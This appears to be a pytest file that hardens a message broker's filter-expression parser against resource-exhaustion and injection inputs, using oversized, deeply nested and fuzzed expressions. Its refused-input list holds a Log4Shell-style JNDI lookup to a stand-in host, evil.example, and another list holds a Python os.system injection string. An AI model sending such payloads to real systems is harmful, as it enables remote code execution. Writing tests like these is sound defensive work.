"""S13: filter expressions made to be expensive cost a broker little, whichever request has them."""

import asyncio
import random
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Final

import pytest

from fault.broker.wire import Queue, ask, connected, send
from fault.broker_hostile.target import Target, target
from fault.broker_hostile.watched import TURNS, count_turns, filter_without_end
from roketto.broker.filter_work import UNITS_PER_TURN
from roketto.broker.wanted import WantedBySql
from roketto.protocol.bodies.base import encode_body
from roketto.protocol.bodies.heartbeat import (
    CheckClientRequestBody,
    ConsumerData,
    HeartbeatData,
    SubscriptionData,
)
from roketto.protocol.codes import RequestCode, ResponseCode
from roketto.protocol.command import Command
from roketto.protocol.headers.base import decode_header, encode_header
from roketto.protocol.headers.pull import PullMessageRequest, PullMessageResponse
from roketto.protocol.limits import FILTER_BYTES_MAX
from roketto.protocol.record import decode_records
from roketto.protocol.sql import compile_filter
from roketto.protocol.sysflags import PULL_SUBSCRIPTION
from roketto.remoting.connection import Connection

MEMORY_GROWTH_KB_MAX: Final = 96 * 1024
QUEUE: Final = Queue("Filtered", 0)
GROUP: Final = "filtering"
MEGABYTE: Final = 1 << 20
FULL: Final = FILTER_BYTES_MAX - 100

REFUSED: Final = (
    "(" * 10_000 + "a = 1" + ")" * 10_000,
    "NOT " * 10_000 + "a",
    "-" * 10_000 + "1 > a",
    "a = 1 OR " * (MEGABYTE // 9) + "a = 1",
    "a = '" + "x" * MEGABYTE + "'",
    "a IN (" + "'x'," * (MEGABYTE // 4) + "'x')",
    "(" * 1_000,
    ")" * 1_000,
    "a > " + "9" * 8_000,
    "a CONTAINS '" + "x" * 8_000,
    "/*" * 4_000,
    "\0" * 100,
    "a = 'it''s' AND \ud7ff\U0001f680 =",
    "a = ${jndi:ldap://evil.example/a}",
)
"""Too deep, too long, or no expression at all."""

COSTLY: Final = (
    "a = 1" + " OR a = 1" * ((FULL - 5) // 9),
    "a IS NULL" + " OR a IS NULL" * ((FULL - 9) // 13),
    "a CONTAINS '" + "a" * (FULL - 20) + "b'",
    "a NOT CONTAINS '" + "ab" * ((FULL - 24) // 2) + "'",
    "a IN (" + ",".join(["'x'"] * ((FULL - 10) // 4)) + ")",
    "(" * 60 + "a > 1" + ")" * 60,
    "a BETWEEN 1 AND 2" + " OR a BETWEEN 1 AND 2" * ((FULL - 20) // 22),
    "a LIKE '" + "%a" * 2_000 + "'",
    "__import__('os').system('id')",
)
"""Within all bounds, and as much work as these allow. Of the last two only the first name counts,
as for Java: an expression ends where no rule continues it."""


def subscription(text: str, version: int = 1, kind: str = "SQL92") -> SubscriptionData:
    return SubscriptionData(
        topic=QUEUE.topic, sub_string=text, sub_version=version, expression_type=kind
    )


def check(text: str, kind: str = "SQL92") -> Command:
    body = CheckClientRequestBody("client", GROUP, "", subscription(text, kind=kind))
    return Command(RequestCode.CHECK_CLIENT_CONFIG, body=encode_body(body))


def heartbeat(text: str, version: int, kind: str = "SQL92") -> Command:
    data = ConsumerData(group_name=GROUP, subscription_data_set=[subscription(text, version, kind)])
    body = HeartbeatData(client_id="client", consumer_data_set=[data])
    return Command(RequestCode.HEART_BEAT, body=encode_body(body))


UNWANTING: Final = "a IS NULL" + " OR a IS NULL" * ((FULL - 9) // 13)
"""Wants none of the messages here, as costly as its length makes it."""


def pull(
    text: str | None, version: int = 0, kind: str = "SQL92", offset: int = 0, count: int = 32
) -> Command:
    """By its own expression, or by that of the heartbeat."""
    header = PullMessageRequest(
        consumer_group=GROUP, topic=QUEUE.topic, queue_id=0, queue_offset=offset,
        max_msg_nums=count,
        sys_flag=0 if text is None else PULL_SUBSCRIPTION, consume_offset=0,
        suspend_timeout_ms=0, subscription=text, sub_version=version, expression_type=kind,
    )  # fmt: skip
    return Command(RequestCode.PULL_MESSAGE, encode_header(header))


async def fill(connection: Connection, count: int) -> None:
    """Messages that take long to look at."""
    for number in range(count):
        await send(connection, QUEUE, b"b", {"a": "a" * 30_000, "TAGS": f"t{number % 7}"})


async def try_all(connection: Connection, texts: Sequence[str], first_version: int) -> list[int]:
    """Each text by all ways that an expression comes; the codes of CHECK_CLIENT_CONFIG."""
    codes = []
    for version, text in enumerate(texts, first_version):
        codes.append((await ask(connection, check(text))).code)
        await ask(connection, heartbeat(text, version))
        await ask(connection, pull(None, version))
        await ask(connection, pull(text))
    return codes


def fuzzed(seed: int, count: int) -> list[str]:
    """Expressions made of pieces of the language in any order."""
    chance = random.Random(seed)
    pieces = [
        "(", ")", " AND ", " OR ", " NOT ", "a", "b", " = ", " <> ", ">", "<=", "'", "''", "'x'",
        "1", "-1", "1.5", "1e9", " IN ", ",", " IS NULL", " BETWEEN ", " CONTAINS ", "TRUE", "\0",
        " STARTSWITH ", "\u00e9", "/*", "--", "%", "\n", "9" * 30, "((((((((", "a" * 300,
    ]  # fmt: skip
    return ["".join(chance.choices(pieces, k=chance.randrange(1, 60))) for _ in range(count)]


async def attack(broker: Target, seed: int, count: int) -> None:
    async with connected(broker.address) as connection:
        codes = await try_all(connection, fuzzed(seed, count), 1_000 * seed)
    assert 0 in codes, "no expression was one: the deeper parts are not reached"
    assert len(set(codes)) > 1, "every expression was one: the parser is not tried"


CONFIG: Final = {"enablePropertyFilter": "true"}


async def test_expressions_beyond_the_bounds_are_refused(tmp_path: Path) -> None:
    """By every way in: asked about, told by a heartbeat, in a pull; messages come as before."""
    with target(tmp_path, CONFIG) as broker:
        async with connected(broker.address) as connection:
            await fill(connection, 20)
            codes = await try_all(connection, REFUSED, 1)
            assert ResponseCode.SUCCESS not in codes, codes.index(0)
            for text in REFUSED:
                answer = await ask(connection, pull(text))
                assert answer.code != ResponseCode.SUCCESS, text[:80]
            found = await ask(connection, pull("a IS NOT NULL"))
            assert found.code == ResponseCode.SUCCESS, found.remark


async def test_expressions_at_the_bounds_are_answered(tmp_path: Path) -> None:
    """As much work as an expression can make, over messages with long properties."""
    with target(tmp_path, CONFIG) as broker:
        async with connected(broker.address) as connection:
            await fill(connection, 100)
            before_kb = broker.server.resident_kb()
            assert set(await try_all(connection, COSTLY, 1)) == {ResponseCode.SUCCESS}
            tags = "||".join(f"t{number}" for number in range(50_000))
            for request in (pull(tags, kind="TAG"), pull("||" * 100_000, kind="TAG")):
                await ask(connection, request)
            await ask(connection, heartbeat(tags, 100, "TAG"))
            assert broker.server.resident_kb() - before_kb < MEMORY_GROWTH_KB_MAX


async def test_fuzzed_expressions_are_answered(tmp_path: Path) -> None:
    """1,000 of them, by all ways, in bounded memory."""
    with target(tmp_path, CONFIG) as broker:
        async with connected(broker.address) as connection:
            await fill(connection, 20)
        await attack(broker, 1, 100)
        before_kb = broker.server.resident_kb()
        await attack(broker, 2, 1_000)
        assert broker.server.resident_kb() - before_kb < MEMORY_GROWTH_KB_MAX


async def filter_in_turns(folder: Path, bug: Callable[[], None]) -> None:
    """Let twenty clients at once filter a queue, and count what each turn of the loop has to do."""
    messages = 60
    with target(folder, CONFIG, bug=bug) as broker:
        async with connected(broker.address) as connection:
            await fill(connection, messages)
            await ask(connection, pull(UNWANTING))  # it is parsed only once
            answers = await asyncio.gather(
                *(ask(connection, pull(UNWANTING)) for _ in range(20)),
            )
            offset, pulls = 0, 0
            while offset < messages:
                text = f"{UNWANTING} OR b = {pulls % 7}"  # parsed anew, or not
                answer = await ask(connection, pull(text, offset=offset))
                answers.append(answer)
                came_to = decode_header(PullMessageResponse, answer.ext).next_begin_offset
                assert came_to > offset, "it does not get on"
                offset, pulls = came_to, pulls + 1
            assert {answer.code for answer in answers} == {ResponseCode.PULL_RETRY_IMMEDIATELY}
            [record] = decode_records(
                memoryview((await ask(connection, pull("*", kind="TAG", count=1))).body)
            )
        most = int(broker.config_file.with_name(TURNS).read_text())
    one = WantedBySql(compile_filter(f"{UNWANTING} OR b = 0")).work_of(record.properties_raw)
    text = f"{most / one:.1f} messages in one turn at the most, {messages} by {pulls} pulls"
    assert most <= UNITS_PER_TURN + one, text
    print(text)


async def test_costly_filters_leave_turns_to_others(tmp_path: Path) -> None:
    """However many pulls there are: each gets on, and the loop goes round between messages."""
    await filter_in_turns(tmp_path, count_turns)


async def test_filters_that_hold_up_the_loop_are_noticed(tmp_path: Path) -> None:
    """Planted: nothing bounds what they do in one turn."""
    with pytest.raises(AssertionError, match=r"[0-9.]+ messages in one turn at the most"):
        await filter_in_turns(tmp_path, filter_without_end)


@pytest.mark.slow
@pytest.mark.timeout(3_600)
async def test_many_more_fuzzed_expressions(tmp_path: Path) -> None:
    """The long tier: a hundred thousand."""
    with target(tmp_path, CONFIG) as broker:
        async with connected(broker.address) as connection:
            await fill(connection, 20)
        for seed in range(100, 200):
            await attack(broker, seed, 1_000)
